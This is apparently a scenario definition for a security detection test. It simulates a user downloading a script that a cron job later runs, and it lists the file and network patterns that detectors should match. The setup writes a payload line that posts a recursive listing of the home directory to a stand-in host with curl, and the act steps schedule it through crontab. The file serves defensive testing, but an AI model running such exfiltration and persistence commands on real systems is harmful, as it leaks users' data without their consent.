# Downloaded now, run later by a job that the user has just made.
title="Downloaded script run later from the user's new crontab"
what="The clerk downloads backup-photos.sh in Chromium from a private cloud drive, makes it executable and puts it into the crontab, as its instructions say. Up to a minute later cron runs it and it sends a file list to 203.0.113.66."
host=ws3.example.org user=clerk daemons="cron sshd"

setup() { mkdir -p "$base/out/www/d"; printf '#!/bin/sh\nls -R "$HOME" | curl -s --data-binary @- http://drop.example.net/l >/dev/null\ntouch "$HOME/.photos-done"\n' > "$base/out/www/d/backup-photos.sh"; }
act() {
  small_talk 2
  display_up
  chromium_as clerk https://files.example.net/d/backup-photos.sh
  wait_file /home/clerk/Downloads/backup-photos.sh 40
  sleep 3
  desktop_close
  console_as clerk <<'L'
chmod u+x Downloads/backup-photos.sh
echo '* * * * * $HOME/Downloads/backup-photos.sh' | crontab -
crontab -l
L
  wait_file /home/clerk/.photos-done 75
  crontab -u clerk -r
}
truth() {
  file_step save 'chromium.* (rename|link) .*CREATE /home/clerk/Downloads/backup-photos.sh$' 'the browser saves the script'
  file_step chmod '/chmod chmod .*backup-photos.sh' 'it is made executable'
  exec_step job 'crontab -' 'a job is made'
  exec_step execute '(sh|dash) /bin/sh /home/clerk/Downloads/backup-photos.sh' 'cron runs the download'
  net_step beacon 'curl 203.0.113.66:80' 'and it sends a list outside'
}
